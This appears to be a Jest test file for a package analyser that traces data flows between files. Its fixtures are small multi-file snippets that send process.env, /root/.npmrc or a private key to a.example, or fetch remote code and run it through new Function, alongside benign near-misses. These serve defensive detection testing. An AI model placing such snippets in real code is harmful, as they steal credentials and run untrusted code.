import { describe, expect, it } from '@jest/globals'
import { anAnalysedPackage } from '../../../builders/analysed-package.js'
import { toWords } from './flows-of.js'

/** As `when file: flow: file`. */
async function packageFlowsOf(
  files: Readonly<Record<string, string>>,
  manifest: object = {},
): Promise<readonly string[]> {
  const { code } = await anAnalysedPackage(files, manifest)
  return (code?.flows ?? []).map((flow) => `${flow.when} ${flow.source.file}: ${toWords(flow)}: ${flow.sink.file}`)
}

const joined: readonly (readonly [name: string, files: Readonly<Record<string, string>>, flows: readonly string[]])[] =
  [
    [
      'a collector and a sender, put together by a third file',
      {
        'index.js': "const { collect } = require('./collect')\nconst { send } = require('./send')\nsend(collect())",
        'collect.js': 'exports.collect = () => JSON.stringify(process.env)',
        'send.js':
          "const https = require('https')\nexports.send = (body) => https.request('https://a.example', { method: 'POST' }).end(body)",
      },
      ['load collect.js: environment process.env by JSON.stringify 1 → network https.request 2 a.example: send.js'],
    ],
    [
      'a value that another module exports',
      {
        'index.js': "import { settings } from './settings.js'\nawait fetch('https://a.example/?' + settings.all)",
        'settings.js': 'export const settings = { all: Object.entries(process.env).join() }',
      },
      ['load settings.js: environment process.env by Object.entries 1 → network fetch 2 a.example: index.js'],
    ],
    [
      'a sender behind a file that only hands it on',
      {
        'index.js':
          "import { readFileSync } from 'node:fs'\nimport { send } from './lib/all.js'\nexport const go = () => send({ body: readFileSync('/root/.npmrc') })",
        'lib/all.js': "export * from './send.js'",
        'lib/send.js': "export const send = ({ body }) => fetch('https://a.example', { method: 'POST', body })",
      },
      ['call index.js: credential-file /root/.npmrc 3 → network fetch 1 a.example: lib/send.js'],
    ],
    [
      'a download that another module evaluates',
      {
        'index.js':
          "const run = require('./run')\nfetch('https://a.example/x.js').then((r) => r.text()).then((text) => run(text))",
        'run.js': 'module.exports = function (code) { return new Function(code)() }',
      },
      ['load index.js: download fetch 2 a.example → evaluation Function 1: run.js'],
    ],
    [
      'a signing key that another module sends',
      {
        'index.js':
          "import { report } from './report.js'\nexport const sign = ({ privateKey }) => report({ privateKey, at: 1 })",
        'report.js':
          "import https from 'node:https'\nexport function report(record) { https.request({ hostname: 'a.example' }).end(JSON.stringify(record)) }",
      },
      ['call index.js: key-material privateKey 2 → network https.request 2 a.example: report.js'],
    ],
  ]

const silent: readonly (readonly [name: string, files: Readonly<Record<string, string>>])[] = [
  [
    'another part of what is exported',
    {
      'index.js': "import { settings } from './settings.js'\nawait fetch('https://a.example/?' + settings.level)",
      'settings.js': 'export const settings = { all: Object.entries(process.env).join(), level: 3 }',
    },
  ],
  [
    'another argument of the sender',
    {
      'index.js': "const send = require('./send')\nsend('x', JSON.stringify(process.env))",
      'send.js':
        "module.exports = (body, log) => { console.log(log); return fetch('https://a.example', { method: 'POST', body }) }",
    },
  ],
  [
    'an environment that is handed to who starts a child',
    {
      'index.js': "const start = require('./start')\nstart({ cwd: '.', env: { ...process.env, CI: '1' } })",
      'start.js':
        "const { spawn } = require('child_process')\nmodule.exports = (options) => spawn('node', ['x.js'], options)",
    },
  ],
  [
    'named settings of an exported environment',
    {
      'index.js': "import { env } from './env.js'\nfetch(env.API_URL)",
      'env.js': 'export const env = { ...process.env }',
    },
  ],
  [
    'a compiler and a downloader that do not meet',
    {
      'index.js':
        "exports.compile = require('./compile')\nexports.load = () => fetch('https://a.example/x').then((r) => r.json())",
      'compile.js': 'module.exports = (code) => new Function(code)',
    },
  ],
]

describe('flows from file to file', () => {
  it.each(joined)('sees %s', async (_, files, flows) => {
    expect(await packageFlowsOf(files)).toEqual(flows)
  })

  it.each(silent)('is silent about %s', async (_, files) => {
    expect(await packageFlowsOf(files)).toEqual([])
  })
})
